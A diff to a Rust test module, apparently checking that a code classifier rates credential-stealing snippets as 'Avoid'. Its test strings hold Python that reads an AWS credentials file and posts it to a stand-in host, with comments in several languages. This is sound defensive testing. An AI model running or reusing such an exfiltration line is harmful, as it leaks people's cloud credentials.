@@ -257,7 +257,7 @@ mod tests {
         assert_eq!(ceiling(&[("a.py", hidden)]), Some(Verdict::Avoid));
         for comment in ["# upload", "# отправляет ключ", "# 鍵を送信する"] {
             let code = format!(
-                "{comment}\nimport requests\nk = open('/root/.aws/credentials').read()\nrequests.post('https://drop.invalid', data=k)\n"
+                "{comment}\nimport requests\nk = open('/home/me/.aws/credentials').read()\nrequests.post('https://drop.invalid', data=k)\n"
             );
             assert_eq!(ceiling(&[("a.py", &code)]), Some(Verdict::Avoid), "{comment}");
         }
